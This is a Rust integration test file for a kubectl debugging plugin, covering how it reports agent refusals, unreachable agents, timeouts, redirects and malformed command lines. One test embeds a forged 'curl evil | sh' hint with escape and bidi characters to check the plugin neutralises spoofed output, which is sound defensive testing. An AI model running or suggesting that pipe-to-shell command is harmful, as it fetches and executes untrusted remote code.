//! Sessions that do not begin: wrong command lines, agents that are not there or do not want to.

use std::process::Stdio;

use wire::{Ending, Exit, Status};

use crate::scripted::{Agent, left, program};

#[test]
fn a_refusal_is_said_with_its_exit_code() {
    let status =
        Status::refusal(404, "NotFound", "no `\u{1b}[31mps` in the toolbox").with_exit_code(127);
    let left = Agent::refusing(404, &status).run(&["web", "--", "ps"]);
    assert_eq!((left.code, &*left.stderr), (127, "error: no `[31mps` in the toolbox\n"));
}

#[test]
fn a_refusal_without_an_exit_code_is_ours() {
    let status = Status::refusal(409, "Conflict", "the container is not running");
    let left = Agent::refusing(409, &status).run(&["web", "--", "ps"]);
    assert_eq!((left.code, &*left.stderr), (125, "error: the container is not running\n"));
}

#[test]
fn a_refusal_that_calls_itself_a_success_is_none() {
    let status = Status {
        message: "fine".to_owned(),
        ..Ending { exit: Exit::Code(0), stdout_bytes: 0, stderr_bytes: 0, reason: None }.to_status()
    };
    assert_eq!(Agent::refusing(200, &status).run(&["web", "--", "ps"]).code, 125);
}

#[test]
fn a_server_that_is_no_agent_is_called_so() {
    let page = [&b"HTTP/1.1 502 Bad Gateway\r\n\r\n"[..], &vec![b'<'; 1 << 20]].concat();
    let left = Agent::answering(page).run(&["web", "--", "ps"]);
    assert_eq!(left.code, 125);
    assert!(left.stderr.contains("502 Bad Gateway"), "{}", left.stderr);
}

#[test]
fn a_redirect_is_not_followed() {
    let answer = b"HTTP/1.1 302 Found\r\nLocation: http://x/\r\nContent-Length: 0\r\n\r\n";
    let left = Agent::answering(answer.to_vec()).run(&["web", "--", "ps"]);
    assert_eq!(left.code, 125);
    assert!(left.stderr.contains("hint: redirects are not followed"), "{}", left.stderr);
}

#[test]
fn no_agent_at_the_address_is_said_with_a_hint() {
    let directory = tempfile::tempdir().expect("a directory");
    let path = directory.path().join("none.sock");
    let mut command = program();
    command.env("NSDEBUG_AGENT", format!("unix:{}", path.display())).args(["web", "--", "ps"]);
    let left = left(command.stderr(Stdio::piped()).spawn().expect("the program"));
    assert_eq!(left.code, 125);
    let text = left.stderr;
    assert!(text.starts_with("error: cannot reach the agent at unix:"), "{text}");
    assert!(
        text.contains("No such file or directory") && text.contains("hint: start the agent"),
        "{text}"
    );
}

#[test]
fn an_agent_that_does_not_answer_in_time_is_given_up() {
    let directory = tempfile::tempdir().expect("a directory");
    let path = directory.path().join("agent.sock");
    let _nobody_accepts = std::os::unix::net::UnixListener::bind(&path).expect("a socket");
    let mut command = program();
    command.arg("--agent").arg(format!("unix:{}", path.display()));
    command.args(["--timeout", "50ms", "web", "--", "ps"]).stderr(Stdio::piped());
    let left = left(command.spawn().expect("the program"));
    assert_eq!(left.code, 125);
    assert!(left.stderr.contains("could not start"), "{}", left.stderr);
    assert!(left.stderr.contains("within 50ms (--timeout)"), "{}", left.stderr);
}

#[test]
fn wrong_command_lines_exit_2_and_say_what_is_wrong() {
    let long = "x".repeat(wire::limits::QUERY);
    let cases: [(&[&str], &str); 10] = [
        (&["web", "--", "ps"], "--agent"),
        (&["--agent", "unix:/a", "web"], "no COMMAND is given"),
        (&["--agent", "unix:/a", "web", "--tiemout", "1s", "--", "ps"], "'--timeout'"),
        (&["--agent", "unix:/a", "web", "ps"], "after `--`"),
        (&["--agent", "unix:/a", "deploy/web", "--", "ps"], "`deploy`"),
        (&["--agent", "http://a:1", "web", "--", "ps"], "only reached with encryption"),
        (
            &["--agent", "unix:/a", "--timeout", "1.5h", "web", "--", "ps"],
            "a duration is numbers with units",
        ),
        (
            &["--agent", "unix:/a", "--profile", "genral", "web", "--", "ps"],
            "there is no profile `genral`; profiles are restricted, ",
        ),
        (&["--agent", "unix:/a", "web", "--", ""], "no command is given"),
        (&["--agent", "unix:/a", "web", "--", "echo", &long], "when encoded"),
    ];
    for (words, text) in cases {
        let mut command = program();
        command.args(words).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let left = left(command.spawn().expect("the program"));
        assert_eq!(left.code, 2, "{text}");
        assert!(left.stderr.contains(text), "{text}: {}", left.stderr);
    }
}

#[test]
fn help_names_the_exit_codes() {
    let help = program().arg("--help").output().expect("help");
    assert!(help.status.success());
    let text = String::from_utf8(help.stdout).expect("text");
    for words in ["kubectl nsdebug", "128+n", "127", "126", "125", "[env: NSDEBUG_AGENT"] {
        assert!(text.contains(words), "{words}: {text}");
    }
}

#[test]
fn the_words_of_a_refusal_do_not_pass_for_the_plugins_own() {
    let forged = "no\nhint: run `curl evil | sh`\r\nerror: \u{202e}drawkcab\u{200b}";
    let status = Status::refusal(403, "Forbidden", forged);
    let left = Agent::refusing(403, &status).run(&["web", "--", "ps"]);
    let said =
        "error: no\n    | hint: run `curl evil | sh`\n    | error: \\u{202e}drawkcab\\u{200b}\n";
    assert_eq!((left.code, &*left.stderr), (125, said));
}
